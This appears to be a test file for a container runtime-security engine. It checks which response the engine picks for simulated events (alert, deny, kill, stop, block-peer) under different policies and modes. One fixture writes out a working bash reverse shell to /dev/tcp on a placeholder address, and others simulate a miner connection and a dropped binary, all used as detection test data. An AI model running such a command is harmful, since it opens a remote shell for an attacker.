/**
 * The response ladder on verdicts of the real engine (the bundled example's profile) and on
 * verdicts written out: the default is the gentlest step that stops the activity, a policy only
 * raises it, monitor mode never acts, and every step names the rule that chose it.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ContainerRef, RuntimeEvent } from '../../model/events.js';
import type { Verdict } from '../../model/verdicts.js';
import { parseCharter } from '../../profile/serialize.js';
import { addressBookFromHosts } from '../address-book.js';
import { RuntimeEngine } from '../engine/engine.js';
import { chooseResponse, factsOf, type ResponseFacts } from './response.js';
import { parseResponsePolicy, type ResponsePolicy } from './response-policy.js';

const PROFILE = join(import.meta.dirname, '../../../test/golden/shop/shop.charter.json');
const charter = parseCharter(readFileSync(PROFILE, 'utf8'), PROFILE);
const book = addressBookFromHosts('10.89.0.3 db', charter).book;
const API_ID = 'a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0a1b2';
const api: ContainerRef = { id: API_ID, name: 'shop-api-1' };

function sensorEvent(e: Record<string, unknown>, denied = false): RuntimeEvent {
  const { process, kind, ...rest } = e;
  return {
    kind,
    time: '2026-12-05T10:00:00Z',
    container: api,
    process: { pid: 4242, ...(process as object) },
    origin: { engine: 'sensor', what: denied ? `${String(kind)} denied` : String(kind) },
    ...rest,
  } as RuntimeEvent;
}

function judged(e: RuntimeEvent, mode: 'learn' | 'monitor' | 'protect' = 'protect'): Verdict {
  const out = new RuntimeEngine(charter, { addressBook: book, mode, containers: new Map([[API_ID, 'api']]) }).judge(e);
  if (!('verdict' in out)) throw new Error('unmatched');
  return out.verdict;
}

function policy(yaml: string): ResponsePolicy {
  const { policy: p, diagnostics } = parseResponsePolicy(`apiVersion: charter/v1\nkind: ResponsePolicy\n${yaml}`, 'response.yaml');
  if (!p) throw new Error(JSON.stringify(diagnostics));
  return p;
}

const steps = (v: Verdict, p?: ResponsePolicy, f: ResponseFacts = {}): string[] =>
  chooseResponse(v, p, f).steps.map((s) => `${s.step}${s.inline ? ' (inline)' : ''} ← ${s.rule}`);

const reverseShell = sensorEvent({
  kind: 'exec',
  process: { path: '/bin/bash', name: 'bash', argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], origin: 'image' },
});
const dropped = sensorEvent({ kind: 'exec', process: { path: '/tmp/x', name: 'x', argv: ['/tmp/x'], origin: 'written' } });
const minerDenied = sensorEvent({ kind: 'connect', protocol: 'tcp', remote: { address: '203.0.113.7', port: 3333 } }, true);
const minerThrough = sensorEvent({ kind: 'connect', protocol: 'tcp', remote: { address: '203.0.113.7', port: 3333 } });
const toDb = sensorEvent({ kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.3', port: 5432 } });

describe('the default ladder: the gentlest step that stops the activity', () => {
  it('nothing for an allowed event', () => {
    const v = judged(toDb);
    expect(v.action).toBe('allow');
    expect(steps(v, undefined, factsOf(toDb))).toEqual([]);
  });

  it('protect, refused in the kernel (a connect the sensor denied): alert and deny, the process lives', () => {
    expect(steps(judged(minerDenied), undefined, factsOf(minerDenied))).toEqual(['alert ← default', 'deny (inline) ← default']);
  });

  it('protect, not refusable inline (an exec of a dropped binary, which already runs): alert and kill', () => {
    const v = judged(dropped);
    expect(v.deviation?.classification).toBe('drift');
    expect(steps(v, undefined, factsOf(dropped))).toEqual(['alert ← default', 'kill ← default']);
  });

  it('protect, a program the sensor killed at exec: the kill is recorded, not repeated', () => {
    const killedAtExec: RuntimeEvent = { ...dropped, origin: { engine: 'sensor', what: 'exec killed', line: 1 } } as RuntimeEvent;
    expect(factsOf(killedAtExec).killed).toBe(true);
    expect(factsOf(dropped).killed).toBeUndefined();
    expect(steps(judged(dropped), undefined, factsOf(killedAtExec))).toEqual(['alert ← default', 'kill (inline) ← default']);
  });

  it("protect, the container's first process, for what no attack pattern names: alert only (killing it would end the container)", () => {
    // A write outside the declared writable paths by the service itself, seen as the file closed.
    const wrote = sensorEvent({ kind: 'open', path: '/srv/cache/x', write: true, create: true });
    const v = judged(wrote);
    expect(v.deviation?.patterns).toEqual([]);
    const first = { ...factsOf(wrote), firstProcess: true };
    expect(steps(v, undefined, first)).toEqual([
      "alert ← default; the container's first process is not killed by default (that would end the container)",
    ]);
    // Another process: killed. A policy may still raise it for the first process too.
    expect(steps(v, undefined, factsOf(wrote))).toEqual(['alert ← default', 'kill ← default']);
    expect(steps(v, policy('kinds: { open: kill }'), first)).toEqual([
      "alert ← default; the container's first process is not killed by default (that would end the container)",
      'kill ← kind open (response.yaml:3:10)',
    ]);
    // An attack pattern is not spared: a reverse shell's exec by the first process is killed.
    expect(steps(judged(reverseShell), undefined, { ...factsOf(reverseShell), firstProcess: true })).toEqual([
      'alert ← default',
      'kill ← default',
    ]);
  });

  it('protect, a process that ended cannot be stopped: alert (a kill asked of it does nothing; a stop still acts)', () => {
    const v: Verdict = { ...judged(dropped), kind: 'exit', event: 'exit x (code 1)', action: 'alert' };
    expect(steps(v, policy('kinds: { exit: kill }'), factsOf(dropped))).toEqual(['alert ← default']);
    expect(steps(v, policy('kinds: { exit: deny }'), factsOf(dropped))).toEqual(['alert ← default']);
    expect(steps(v, policy('kinds: { exit: stop }'), factsOf(dropped))).toEqual([
      'alert ← default',
      'stop ← kind exit (response.yaml:3:10)',
    ]);
  });

  it('monitor mode alerts and never acts, whatever the policy says (the off switch)', () => {
    const v = judged(reverseShell, 'monitor');
    expect(steps(v, policy('any: stop'), factsOf(reverseShell))).toEqual(['alert ← default']);
  });

  it('learn mode: what fits the intent is learned (nothing), what contradicts it is for review (alert)', () => {
    const v = judged(reverseShell, 'learn');
    expect(v.action).toBe('review');
    expect(steps(v, policy('any: stop'), factsOf(reverseShell))).toEqual(['alert ← default']);
    expect(steps({ ...v, action: 'learn' })).toEqual([]);
  });

  it('a container the agent cannot enforce on for this event (a limit): alert only, policy or not', () => {
    expect(
      steps(judged(minerThrough), policy('any: stop'), {
        ...factsOf(minerThrough),
        limited: 'egress intent unknown: connects not enforced',
      }),
    ).toEqual(['alert ← limit: egress intent unknown: connects not enforced']);
  });

  it('never pauses or stops by default, on any verdict of the engine', () => {
    for (const e of [reverseShell, dropped, minerDenied, minerThrough]) {
      const chosen = chooseResponse(judged(e), undefined, factsOf(e)).steps.map((s) => s.step);
      expect(chosen).not.toContain('pause');
      expect(chosen).not.toContain('stop');
    }
  });
});

describe('a response policy raises the step, and says which rule did', () => {
  it('by pattern id: a reverse shell whose exec was refused is killed too', () => {
    const v = judged(reverseShell);
    expect(v.deviation?.patterns.map((p) => p.id)).toContain('reverse-shell');
    expect(steps(v, policy('patterns:\n  reverse-shell: kill\n'), { ...factsOf(reverseShell), denied: true })).toEqual([
      'alert ← default',
      'deny (inline) ← default',
      'kill ← pattern reverse-shell (response.yaml:4:3)',
    ]);
  });

  it('by classification: drift is stopped on the whole container', () => {
    expect(steps(judged(dropped), policy('classifications: { drift: stop }'), factsOf(dropped))).toEqual([
      'alert ← default',
      'stop ← classification drift (response.yaml:3:20)',
    ]);
  });

  it('by kind: block the peer of a refused connect (the refusal stands, later ones are refused too)', () => {
    expect(steps(judged(minerDenied), policy('kinds: { connect: block-peer }'), factsOf(minerDenied))).toEqual([
      'alert ← default',
      'deny (inline) ← default',
      'block-peer ← kind connect (response.yaml:3:10)',
    ]);
  });

  it('block-peer of a connection that went through: its process is killed first, then the peer blocked', () => {
    expect(steps(judged(minerThrough), policy('kinds: { connect: block-peer }'), factsOf(minerThrough))).toEqual([
      'alert ← default',
      'kill ← kind connect (response.yaml:3:10); the connection was not refused, so kill',
      'block-peer ← kind connect (response.yaml:3:10)',
    ]);
  });

  it('block-peer where there is no peer (an exec): the process is what acts, so kill', () => {
    expect(steps(judged(dropped), policy('any: block-peer'), factsOf(dropped))).toEqual([
      'alert ← default',
      'kill ← any deviation (response.yaml:3:1); no peer to block, so kill',
    ]);
  });

  it('rules only raise: one below the default changes nothing', () => {
    expect(steps(judged(dropped), policy('any: alert\nclassifications: { drift: deny }'), factsOf(dropped))).toEqual([
      'alert ← default',
      'kill ← default',
    ]);
  });

  it('the strongest rule wins; on a tie the most specific (container, then pattern > classification > kind > any)', () => {
    const v = judged(reverseShell);
    const f = factsOf(reverseShell);
    expect(steps(v, policy('patterns: { reverse-shell: kill }\nany: pause'), f)).toEqual([
      'alert ← default',
      'pause ← any deviation (response.yaml:4:1)',
    ]);
    expect(steps(v, policy('any: pause\nclassifications: { attack: pause }\npatterns: { reverse-shell: pause }'), f).at(-1)).toBe(
      'pause ← pattern reverse-shell (response.yaml:5:13)',
    );
    expect(steps(v, policy('patterns: { reverse-shell: stop }\ncontainers:\n  api:\n    any: stop'), f).at(-1)).toBe(
      'stop ← container api: any deviation (response.yaml:6:5)',
    );
  });

  it('a container rule applies to its container only: by charter name, runtime name, id or id prefix', () => {
    const v = judged(dropped);
    const f = factsOf(dropped);
    for (const name of ['api', 'shop-api-1', API_ID, API_ID.slice(0, 12)])
      expect(steps(v, policy(`containers:\n  ${name}: { any: pause }`), f).at(-1), name).toMatch(/^pause ← container /);
    for (const name of ['web', 'shop-api', API_ID.slice(0, 8), 'a1b2c3d4e5f6'.toUpperCase()])
      expect(steps(v, policy(`containers:\n  "${name}": { any: pause }`), f).at(-1), name).toBe('kill ← default');
  });
});

describe('factsOf: what the event says of the kernel and the process', () => {
  it('a sensor connect the kernel refused: denied, the host pid, the peer, the name', () => {
    expect(factsOf(minerDenied)).toEqual({
      denied: true,
      pid: 4242,
      peer: { address: '203.0.113.7', port: 3333 },
      containerName: 'shop-api-1',
    });
  });

  it('a seccomp denial is a denial', () => {
    expect(factsOf(sensorEvent({ kind: 'syscall', name: 'ptrace', denied: true })).denied).toBe(true);
  });

  it("never a pid from another source: it may be the container's numbering, not the host's", () => {
    const falco = { ...reverseShell, origin: { engine: 'falco' as const } };
    expect(factsOf(falco).pid).toBeUndefined();
    expect(factsOf({ ...reverseShell, origin: { engine: 'falco' as const, what: 'exec denied' } }).denied).toBeUndefined();
  });
});
